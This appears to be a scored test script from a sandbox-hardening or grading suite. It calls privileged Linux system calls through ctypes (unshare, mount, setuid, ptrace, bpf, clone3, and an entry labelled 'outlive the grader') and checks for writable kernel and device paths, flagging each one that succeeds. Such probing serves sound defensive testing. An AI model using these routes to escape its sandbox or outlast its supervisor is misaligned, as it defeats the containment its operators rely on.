# what: calls of the operating system that lead out of sandboxes
# base: solution
# score: 5
# report: ctypes
# report: setuid
# %% place="after mean"
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
NEW_USER = 0x10000000
attempts = {
    "unshare": lambda: libc.unshare(NEW_USER),
    "mount": lambda: libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None),
    "umount": lambda: libc.umount2(b"/usr", 2),
    "chroot": lambda: libc.chroot(b"/"),
    "ptrace": lambda: libc.ptrace(16, 1, 0, 0),
    "setuid": lambda: libc.setuid(0),
    "setns": lambda: libc.setns(0, 0),
    "mknod": lambda: libc.mknod(b"/tmp/disk", 0o60666, 2049),
    "keyctl": lambda: libc.syscall(250, 0, -3, 1),
    "bpf": lambda: libc.syscall(321, 0, 0, 0),
    "x32": lambda: libc.syscall(0x40000000 + 39),
    "io_uring": lambda: libc.syscall(425, 1, 0),
    "clone": lambda: libc.syscall(56, NEW_USER | signal.SIGCHLD, 0, 0, 0, 0),
    "clone3": lambda: libc.syscall(435, ctypes.create_string_buffer(NEW_USER.to_bytes(8, "little") + bytes(80)), 88),
    "sethostname": lambda: libc.sethostname(b"owned", 5),
    "outlive the grader": lambda: libc.prctl(1, 0, 0, 0, 0),
    "priority": lambda: libc.setpriority(0, 0, -20),
    "limits": lambda: libc.setrlimit(6, ctypes.create_string_buffer((10_000).to_bytes(8, "little") * 2)),
}
for name, attempt in attempts.items():
    result = attempt()
    if result == 0 and name.startswith("clone") and os.getpid() != 1:
        os._exit(0)
    if result >= 0:
        print("ATTACK SUCCEEDED:", name)
for name in ("/sys", "/dev/mem", "/dev/kmsg", "/proc/kcore", "/dev/vda", "/.old", "/proc/sysrq-trigger"):
    if os.access(name, os.W_OK) or (os.path.isdir(name) and os.listdir(name)):
        print("ATTACK SUCCEEDED:", name)
